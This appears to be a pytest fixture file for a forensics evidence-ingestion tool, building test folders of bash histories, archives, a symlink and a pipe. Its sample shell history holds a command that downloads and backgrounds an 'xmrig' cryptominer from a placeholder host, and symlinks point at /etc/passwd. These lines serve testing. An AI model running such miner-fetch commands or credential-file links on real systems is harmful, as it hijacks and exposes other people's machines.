"""A small delivery with every turn that intake takes."""

from __future__ import annotations

import gzip
import io
import os
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from forensics.case import Case
from forensics.intake import Options, Summary, ingest

HISTORY = b"#1772500000\nls -la\n#1772500100\ncurl -sO http://example.org/xmrig\n#1772500200\nnohup ./xmrig &\n"
OTHER = b"#1772600000\nwhoami\n#1772600001\nid\n#1772600002\nexit\n"
PICTURE = bytes(range(256)) * 8


def tarred(**members: bytes) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        link = tarfile.TarInfo("shortcut")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(link)
    return stream.getvalue()


def zipped(**members: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return stream.getvalue()


def deliver(folder: Path) -> Path:
    """Histories plain, packed, doubled and cut, nested archives, what no parser knows, a link and a pipe."""
    home = folder / "hosts/gpu1/home/bob"
    home.mkdir(parents=True)
    (home / ".bash_history").write_bytes(HISTORY)
    (folder / "copy of it").write_bytes(HISTORY)
    (folder / "empty.log").write_bytes(b"")
    (folder / "picture.bin").write_bytes(PICTURE)
    (folder / "old.history.gz").write_bytes(gzip.compress(OTHER, mtime=0))
    (folder / "cut.history.gz").write_bytes(gzip.compress(OTHER + b"#1772600009\nlast\n", mtime=0)[:-4])
    inner = zipped(**{"root/.bash_history": OTHER, "notes.txt": b"see you\n"})
    outer = tarred(**{"a/.bash_history": HISTORY, "inner.zip": inner})
    (folder / "outer.tar.gz").write_bytes(gzip.compress(outer, mtime=0))
    (folder / "link").symlink_to("/etc/passwd")
    os.mkfifo(folder / "pipe")
    return folder


@pytest.fixture
def evidence(tmp_path: Path) -> Path:
    """A folder to deliver, the test's own."""
    return deliver(tmp_path / "evidence")


@pytest.fixture(scope="session")
def sealed(tmp_path_factory: pytest.TempPathFactory) -> tuple[Case, Summary]:
    """The same delivery, taken in once for all tests that only look."""
    folder = tmp_path_factory.mktemp("sealed")
    case = Case.create(folder / "case")
    return case, ingest(case, [deliver(folder / "evidence")], Options(workers=2))


@pytest.fixture
def taken(tmp_path: Path, evidence: Path) -> Callable[..., tuple[Case, Summary]]:
    """Take `evidence` (or other paths) into a new case."""

    def take(name: str = "case", *paths: Path, **options: object) -> tuple[Case, Summary]:
        case = Case.create(tmp_path / name)
        return case, ingest(case, paths or (evidence,), Options(**{"workers": 1, **options}))

    return take
